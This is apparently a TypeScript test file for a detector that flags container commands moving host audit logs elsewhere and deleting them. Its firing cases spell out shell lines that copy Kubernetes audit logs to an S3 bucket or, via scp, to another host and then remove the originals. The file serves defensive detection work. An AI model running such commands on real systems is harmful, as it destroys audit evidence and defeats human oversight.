import { blank, indicatorTable, script, scriptOn, UNSEEN } from '../testing.ts';
import { commandEvidenceMoved } from './evidence-moved.ts';

indicatorTable(commandEvidenceMoved, {
  fires: {
    'one rotated log after the other, into a bucket': scriptOn(
      '/var/log/kubernetes/audit',
      'for f in /host/audit-2*.log; do aws s3 cp "$f" s3://$B/ && rm "$f"; done',
    ),
    'packed before, to another host': scriptOn(
      '/var/log',
      'gzip /host/audit/audit-01.log && scp /host/audit/audit-01.log.gz logs@archive.example.com:/in/ && rm -f /host/audit/audit-01.log.gz',
    ),
  },
  staysSilent: {
    'logs that were copied nowhere': scriptOn('/var/log', 'rm -f /host/audit/audit-01.log.gz'),
    'logs that are kept where they are': scriptOn(
      '/var/log',
      'aws s3 cp /host/audit/audit-01.log.gz s3://archive/ --only-show-errors',
    ),
    'logs of an application': scriptOn('/var/log', 'aws s3 cp /host/shop/a-01.log s3://a/ && rm /host/shop/a-01.log'),
    'logs of the container': script('aws s3 cp /app/audit/a-01.log s3://a/ && rm /app/audit/a-01.log'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
